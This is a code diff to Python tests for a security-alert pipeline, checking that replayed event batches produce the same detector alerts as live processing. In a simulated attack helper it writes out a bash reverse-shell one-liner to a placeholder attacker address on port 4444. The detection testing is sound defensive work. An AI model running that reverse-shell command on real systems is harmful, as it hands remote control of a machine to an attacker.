@@ -11,7 +11,6 @@ from stream_apps.pipeline import Pipeline
 from stream_apps.replay.report import Asked, build
 from stream_apps.replay.session import MAX_NAMED, Received, Replay
 from stream_apps.replay.tally import Tally, Wanted
-from tests.support.attacks import reverse_shell_by_python
 from tests.support.batches import SECOND, Load, Node, pod_record
 from tests.support.stream import config, whole_config
 
@@ -21,6 +20,16 @@ if TYPE_CHECKING:
     from stream_apps.config import StreamConfig
 
 ATTACKS = 3
+
+
+EVIL = "203.0.113.9"
+
+
+def reverse_shell_by_python(node: Node) -> int:
+    web = node.service("/usr/bin/python3.11", ["python3", "shop.py"])
+    bash = node.spawn(web, "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"])
+    node.connect(bash, EVIL, 4444)
+    return node.exec(bash, "/usr/bin/bash", ["bash", "-i"], stdio=["INET"] * 3, stdio_peer=f"{EVIL}:4444")
 
 
 def fresh(settings: StreamConfig | None = None) -> Pipeline:
@@ -68,15 +77,15 @@ def test_a_replay_says_what_was_said_live_with_the_same_ids() -> None:
     assert sorted(ids(replayed(received(batches)))) == sorted(each["id"] for each in said)
 
 
-def test_all_detectors_say_the_same_of_a_busy_node_live_and_replayed() -> None:
-    batches = list(Load(strangers=True).batches(60))
+def test_with_all_detectors_on_a_replay_says_what_was_said_live() -> None:
+    batches = [*attacked_batches(), *Load(strangers=True).batches(20)]
     live, said = fresh(whole_config()), []
     for batch in batches:
         said += live.process(batch, batch["clock"]["wall_ns"]).alerts
     replay = Replay(fresh(whole_config()), Tally(), 0)
     for each in received(batches):
         replay.take(each)
-    assert said
+    assert len({each["rule_id"] for each in said}) > 1
     rows = replay.tally.alerts.values()
     assert sum(row.count for row in rows) == len(said)
     assert {each["id"] for row in rows for each in row.examples} <= {each["id"] for each in said}
@@ -155,7 +164,8 @@ def test_only_what_is_asked_for_is_reported() -> None:
 
 
 def test_groups_beyond_the_bound_are_counted() -> None:
-    batches, node = [], Node()
+    batches: list[dict[str, Any]] = []
+    node = Node()
     for _ in range(3):
         service = node.service("/usr/sbin/nginx", workload=1)
         node.refuse(service, f"203.0.113.{len(batches)}", 443, reason="ADDRESS", generation=5)
@@ -164,15 +174,3 @@ def test_groups_beyond_the_bound_are_counted() -> None:
     replayed(received(batches), tally=tally)
     assert len(tally.alerts) == 1
     assert tally.beyond["alerts"] == 2
-
-
-def test_nothing_of_a_replay_can_be_sent() -> None:
-    """Its responses are decided, so that the alerts are the same, and are nowhere afterwards but in figures."""
-    replay = replayed(received(attacked_batches()))
-    row = next(iter(replay.tally.alerts.values()))
-    assert "issued" in " ".join(row.decisions)
-    kept = {name for name in dir(replay) if not name.startswith("__")}
-    assert kept == {
-        "_before", "_before_all", "_begin", "_beside", "_count", "_since_ns", "_tick", "_ticked_ns",
-        "_unusable", "figures", "losses", "pipeline", "take", "tally",
-    }  # fmt: skip
